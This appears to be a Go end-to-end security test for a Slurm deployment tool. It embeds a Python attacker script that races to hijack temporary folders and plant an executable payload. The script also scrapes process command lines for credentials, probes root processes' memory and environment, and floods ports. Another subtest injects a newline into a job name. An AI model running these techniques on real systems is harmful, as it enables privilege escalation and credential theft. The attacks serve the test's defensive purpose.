//go:build linux

package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
)

// slurmSiege is what an ordinary user runs on the coordinator's machine and on a node. It looks for arguments of others that name folders or
// files of fabricform below folders where users may write, and makes each first, on both machines; it copies all that it can read of the processes
// of others; and it connects to all ports of the coordinator, again and again. $1 is the other machine's address. It says what it did, a line
// each.
const slurmSiege = `
import os, re, socket, sys, threading, time
out = open("/var/siege", "w", buffering=1)
peer, name, evil = sys.argv[1], re.compile(rb"/(?:var/tmp|tmp|dev/shm)/fabricform-[^\0 \"';/]*"), b"#!/bin/sh\nid >> /var/tmp/owned\n"
def take(path, seen=set()):
    if path in seen: return
    seen.add(path)
    try:
        os.mkdir(path, 0o777)
        os.chmod(path, 0o777)
        os.symlink("/var/tmp/written", path + b"/gz")
        with open(path + b"/new", "wb") as f: f.write(evil)
        os.chmod(path + b"/new", 0o777)
        out.write("took %s\n" % path.decode())
    except OSError as e: out.write("not taken %s: %s\n" % (path.decode(), e))
def told():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 6999))
    while True: take(s.recv(4096))
def knock():
    while True:
        try:
            with open("/proc/net/tcp") as f: rows = [r.split() for r in f][1:]
            kept = []
            for port in {int(r[1].split(":")[1], 16) for r in rows if r[3] == "0A"} or {6817}:
                for at in (peer, "10.77.0.1"):
                    try: kept.append(socket.create_connection((at, port), 0.2))
                    except OSError: pass
            for s in kept:
                try: s.sendall(b"\x16\x03\x01\x00\x05hello")
                except OSError: pass
            time.sleep(0.02)
        except OSError: pass
for f in (told, knock, knock): threading.Thread(target=f, daemon=True).start()
to = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
known, read = set(), set()
while True:
    for pid in os.listdir("/proc"):
        if not pid.isdigit(): continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f: line = f.read()
        except OSError: continue
        for path in name.findall(line):
            take(path)
            if path not in known: to.sendto(path, (peer, 6999))
            known.add(path)
        if b"MUNGE:" in line or b"secret" in line: out.write("credential %r\n" % line)
        if line.startswith(b"srun\0") and pid not in read:
            out.write("saw srun\n")
            read.add(pid)
        for file in "environ", "fd/0", "cwd", "root", "mem":
            try:
                if os.stat("/proc/" + pid).st_uid == 0 and os.open("/proc/%s/%s" % (pid, file), os.O_RDONLY): out.write("open %s of %r\n" % (file, line))
            except OSError: pass
`

// siege lets an ordinary user attack the coordinator's machine and host d until end is called, which returns what that user did there.
func (c slurmCluster) siege(t *testing.T) (end func() string) {
	t.Helper()
	for host, peer := range map[string]string{"a": "10.77.0.4", "d": "10.77.0.1"} {
		c.on(t, host, slurmSiege, `cat > /var/siege.py; : > /var/siege; chown 64123 /var/siege
setsid setpriv --reuid=64123 --regid=64123 --clear-groups python3 /var/siege.py "$1" >/var/siege.err 2>&1 </dev/null & echo $! > /run/siege`, peer)
	}
	return func() (did string) {
		t.Helper()
		for _, host := range []string{"a", "d"} {
			said := c.on(t, host, "", `kill $(cat /run/siege); cat /var/siege /var/siege.err; ls -l /var/tmp/owned /var/tmp/written 2>/dev/null; rm -rf /var/tmp/*fabricform*`)
			for _, bad := range []string{"credential ", "open ", "/var/tmp/owned", "/var/tmp/written", "Traceback"} {
				if strings.Contains(said, bad) {
					t.Errorf("on host %s, an ordinary user had %q: %s", host, bad, said)
				}
			}
			did += said
		}
		if !strings.Contains(did, "saw srun") {
			t.Errorf("nobody attacked: %s", did)
		}
		return did
	}
}

// hardened forbids programs in /var/tmp of host d until the end of the test.
func (c slurmCluster) hardened(t *testing.T) {
	t.Helper()
	c.on(t, "d", "", "mount -t tmpfs -o noexec,mode=1777 tmp /var/tmp")
	t.Cleanup(func() { c.on(t, "d", "", "umount /var/tmp") })
}

// TestSlurmUsersGainNothing: while the program goes to the nodes, an ordinary user of the coordinator's machine and of a node tries to be first
// where it is written, to read what it is told, and to keep its connections out; users' jobs are named as fabricform's own.
func TestSlurmUsersGainNothing(t *testing.T) {
	together(t)
	installed(t, "sudo", "python3")
	c := slurmHosts(t, "")
	for _, n := range slurmNodes {
		c.on(t, n.name, "", "useradd -m -u 64123 mallory; useradd -m -u 64124 deploy")
	}
	unsent := func() {
		t.Helper()
		c.idle(t)
		for _, n := range slurmNodes {
			c.on(t, n.name, "", "rm -rf /var/lib/fabricform/helpers")
		}
	}
	t.Run("as root", func(t *testing.T) {
		c.declare(t, "", 9000)
		c.hardened(t)
		for range 2 {
			end := c.siege(t)
			c.coordinate(t, "plan", "/root/f.hcl").want(t, 0, "Plan: ")
			if did := end(); strings.Contains(did, "took /var/") {
				t.Errorf("a user was first: %s", did)
			}
			unsent()
		}
	})
	t.Run("by sudo", func(t *testing.T) {
		program, err := os.ReadFile(bin)
		if err != nil {
			t.Fatal(err)
		}
		c.on(t, "a", string(program), "cat > /var/fabricform; chmod 755 /var/fabricform")
		c.on(t, "a", fmt.Sprintf(slurmFabric, "", 9000), "cat > /var/f.hcl")
		for _, n := range slurmNodes {
			c.on(t, n.name, sudoRules(t), "cat > /etc/sudoers.d/fabricform; chmod 440 /etc/sudoers.d/fabricform; visudo -cq")
		}
		plan := func() answer {
			t.Helper()
			return tryCommand(t, c.state, exec.Command(bin, "lab", "exec", c.fabric, "a", "--", "setpriv", "--reuid=64124", "--regid=64124", "--clear-groups",
				"env", "HOME=/home/deploy", "timeout", "300", "/var/fabricform", "plan", "/var/f.hcl"))
		}
		end := c.siege(t)
		a := plan()
		for range 4 { // mkdir has the folder's name in its arguments for a moment
			if a.code != 4 || !strings.Contains(a.err, "File exists") {
				break
			}
			a = plan()
		}
		a.want(t, 0, "Plan: ")
		end()
		unsent()
		c.hardened(t)
		plan().want(t, 4, "d: unreachable", "cannot be unpacked or started in /var/tmp", "a, b, c")
		if left := c.on(t, "d", "", "ls /var/tmp"); left != "" {
			t.Errorf("host d keeps what was sent: %s", left)
		}
		c.idle(t)
	})
	t.Run("jobs with our name", func(t *testing.T) {
		c.declare(t, "", 9000)
		c.on(t, "a", "", `cd /tmp; setpriv --reuid=64123 --regid=64123 --clear-groups sbatch --nodelist=d --output=/dev/null --job-name="x
1 R 0 fabricform" --wrap="sleep 24"
setpriv --reuid=64123 --regid=64123 --clear-groups sbatch --nodelist=d --output=/dev/null --job-name=fabricform --wrap="sleep 24"
until [ "$(squeue -h -t running -o %A | wc -l)" = 2 ]; do sleep 0.1; done; squeue -h -o "%A %j"`)
		c.coordinate(t, "apply", "-auto-approve", "-no-verify", "-host=d", "/root/f.hcl").want(t, 0, "d: waiting for job")
		c.idle(t)
	})
}
